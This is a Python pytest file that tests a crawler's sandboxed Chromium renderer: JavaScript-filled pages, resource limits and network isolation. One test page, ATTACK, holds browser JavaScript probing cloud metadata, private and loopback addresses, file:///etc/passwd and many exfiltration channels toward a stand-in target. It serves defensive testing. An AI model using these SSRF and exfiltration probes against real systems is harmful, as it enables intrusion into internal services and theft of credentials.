"""Pages that only JavaScript fills in: a real Chromium on loopback sites, behind the guard."""

import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

import pytest

from frontdesk.db.ingest.aids import open_aids
from frontdesk.db.ingest.client import GuardedClient
from frontdesk.db.ingest.embed import GGUFEmbedder
from frontdesk.db.ingest.fetched import Fetched
from frontdesk.db.ingest.ingest import SourceError, ingest
from frontdesk.db.ingest.render import Renderer, RenderError, browser_path
from frontdesk.db.ingest.report import IngestReport
from frontdesk.db.settings import ChunkSettings, SiteSettings
from frontdesk.db.store import Store

SHELL = """<html lang="en"><head><title>Desk</title></head><body><div id="app"></div>
<script src="/app.js"></script></body></html>"""
SCRIPT = """fetch('/hours.json').then(r => r.json()).then(data => {
  document.getElementById('app').innerHTML =
    '<main><h1>Hours</h1><p>' + data.text + ' <a href="/plain">Plain</a></p></main>';
});"""


@dataclass(frozen=True)
class Settings:
    site: SiteSettings = field(default_factory=SiteSettings)
    chunks: ChunkSettings = field(default_factory=ChunkSettings)


@pytest.fixture
def read(store: Store, embedder: GGUFEmbedder, site: Any) -> Any:
    """Ingest the loopback site and return the report."""

    def run(**options: Any) -> IngestReport:
        settings = Settings(
            SiteSettings(trusted_hosts=(site.host,), retries=0, timeout_seconds=60, **options)
        )
        return ingest(store, [site.url], settings, embedder=embedder)

    return run


@pytest.fixture
def app(site: Any) -> Any:
    """A site whose first page is an empty shell, and a plain page that it links to."""
    site.put("/", SHELL)
    site.put("/app.js", SCRIPT, Content_Type="text/javascript")
    site.put("/hours.json", '{"text": "We open at 8."}', Content_Type="application/json")
    words = "This page has words enough of its own to be read as it is served. " * 3
    site.put("/plain", f"<main><p>{words}</p></main><script src='/other.js'></script>")
    return site


@pytest.fixture
def renderer(site: Any) -> Iterator[Renderer]:
    """A browser that may see the loopback site and nothing else."""
    executable = browser_path()
    assert executable is not None, "Debian's chromium is needed (apt-get install chromium)"
    with (
        GuardedClient((site.host,), timeout=30.0) as client,
        Renderer(client, executable, timeout=60.0, max_bytes=1_000_000) as renderer,
    ):
        yield renderer


@pytest.fixture
def target() -> Iterator[tuple[int, list[bytes]]]:
    """A port on loopback that nobody may reach, and what arrives there all the same."""
    arrived: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                arrived.append(connection.recv(200))

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    yield server.getsockname()[1], arrived
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join()


def texts(store: Store) -> list[str]:
    with store.connection() as connection:
        rows = connection.execute("SELECT text FROM chunks ORDER BY text").fetchall()
    return [row[0] for row in rows]


def page_of(site: Any, path: str = "/") -> Fetched:
    headers = {"content-type": "text/html; charset=utf-8"}
    now = datetime.now(UTC)
    return Fetched(site.url + path, 200, headers, site.pages[path].body, None, None, now, 0.0)


def test_an_empty_shell_is_filled_in_and_its_links_are_followed(
    app: Any, read: Any, store: Store
) -> None:
    report = read()
    assert (report.stored, report.failed) == (2, [])
    assert "We open at 8. Plain" in texts(store)
    asked = [path for path, _ in app.requests]
    assert "/hours.json" in asked and "/other.js" not in asked  # a page with words is not rendered
    assert read().unchanged == 2
    app.put("/hours.json", '{"text": "We open at 9."}', Content_Type="application/json")
    report = read()
    assert (report.stored, report.unchanged) == (1, 1) and "We open at 9. Plain" in texts(store)


def test_never_and_always(app: Any, read: Any) -> None:
    report = read(render_javascript="never")
    assert report.stored == 0 and "no text" in report.failed[0].reason
    assert "/app.js" not in [path for path, _ in app.requests]
    assert read(render_javascript="always").stored == 2
    assert "/other.js" in [path for path, _ in app.requests]


def test_without_a_browser_the_page_is_reported(
    app: Any, read: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", "/nowhere")
    report = read()
    assert [problem.url for problem in report.failed] == [f"{app.url}/"]
    assert 'install "frontdesk[javascript]"' in report.failed[0].reason
    with pytest.raises(SourceError, match="render_javascript"):
        settings = SiteSettings(render_javascript="always")
        with GuardedClient() as client, open_aids(settings, client):
            pass


ATTACK = """<html><body><p id="out">nothing</p><iframe src="http://TARGET/frame"></iframe>
<img src="http://TARGET/image"><link rel="prefetch" href="http://TARGET/prefetch">
<link rel="preconnect" href="http://TARGET/"><link rel="stylesheet" href="http://TARGET/style">
<script>
const found = [];
const urls = ['http://169.254.169.254/latest/meta-data/', 'http://10.0.0.1/', 'http://[::1]:PORT/',
  'http://TARGET/fetch', 'http://localhost:PORT/', 'http://2130706433:PORT/', 'file:///etc/passwd',
  'SITE/away'];
async function all() {
  for (const url of urls) {
    try { found.push(url + ' ' + (await (await fetch(url, {mode: 'no-cors'})).text())); }
    catch (error) { found.push('refused'); }
  }
  try { new WebSocket('ws://TARGET/socket'); } catch (error) { }
  try { new EventSource('http://TARGET/events'); } catch (error) { }
  try { navigator.sendBeacon('http://TARGET/beacon', 'x'); } catch (error) { }
  try { await fetch('SITE/post', {method: 'POST', body: 'x'}); found.push('posted'); }
  catch (error) { found.push('refused'); }
  try { await navigator.serviceWorker.register('/worker.js'); } catch (error) { }
  try { new Worker('http://TARGET/worker'); } catch (error) { }
  try { new RTCPeerConnection({iceServers: [{urls: 'stun:TARGET'}]}).createDataChannel('x'); }
  catch (error) { }
  window.open('http://TARGET/popup');
  const form = document.createElement('form');
  form.action = 'http://TARGET/form'; form.method = 'post';
  document.body.appendChild(form); form.submit();
  document.getElementById('out').textContent = found.join(', ');
}
all();
</script></body></html>"""


def test_a_page_that_attacks_reaches_nothing(
    site: Any, renderer: Renderer, target: tuple[int, list[bytes]]
) -> None:
    port, arrived = target
    page = ATTACK.replace("TARGET", f"127.0.0.1:{port}").replace("PORT", str(port))
    site.put("/", page.replace("SITE", site.url))
    site.redirect("/away", f"http://127.0.0.1:{port}/redirected")
    html = renderer.render(page_of(site)).decode()
    assert f'<p id="out">{", ".join(["refused"] * 9)}</p>' in html
    assert arrived == []
    assert "/post" not in [path for path, _ in site.requests]


def test_a_page_that_navigates_away_is_not_followed(
    site: Any, renderer: Renderer, target: tuple[int, list[bytes]]
) -> None:
    port, arrived = target
    site.put("/", f"<p>Here.</p><script>location = 'http://127.0.0.1:{port}/'</script>")
    try:
        assert b"Here." in renderer.render(page_of(site))
    except RenderError:
        pass  # the browser may show its own error page instead
    assert arrived == []


def test_limits_of_time_size_and_requests(site: Any, renderer: Renderer) -> None:
    site.put("/loop", "<p>Loop.</p><script>for (;;) {}</script>")
    renderer._timeout = 3.0
    with pytest.raises(RenderError, match="more than 3 s"):
        renderer.render(page_of(site, "/loop"))
    renderer._timeout = 60.0
    site.put("/big", "<p id=a></p><script>a.textContent = 'x'.repeat(2000000)</script>")
    with pytest.raises(RenderError, match="limit of 1000000"):
        renderer.render(page_of(site, "/big"))
    site.put(
        "/many", "<script>for (let n = 0; n < 500; n++) fetch('/n?' + n).catch(() => 0)</script>"
    )
    renderer.render(page_of(site, "/many"))
    assert len([path for path, _ in site.requests if path.startswith("/n?")]) <= 100
    site.put(
        "/poll",
        "<p id=a></p><script>setInterval(() => {a.textContent = 'Filled.';"
        " fetch('/tick')}, 100)</script>",
    )
    assert b"Filled." in renderer.render(page_of(site, "/poll"))


def test_of_the_trusted_hosts_a_page_reaches_its_own_alone(
    site: Any, target: tuple[int, list[bytes]]
) -> None:
    port, arrived = target
    other = f"127.0.0.1:{port}"
    script = f"fetch('http://{other}/').catch(() => a.textContent = 'refused')"
    site.put("/", f"<p id=a>no</p><script>{script}</script>")
    executable = browser_path()
    assert executable is not None
    with (
        GuardedClient((site.host, other), timeout=30.0) as client,
        Renderer(client, executable, timeout=60.0, max_bytes=1_000_000) as renderer,
    ):
        assert b"refused" in renderer.render(page_of(site))
    assert arrived == []
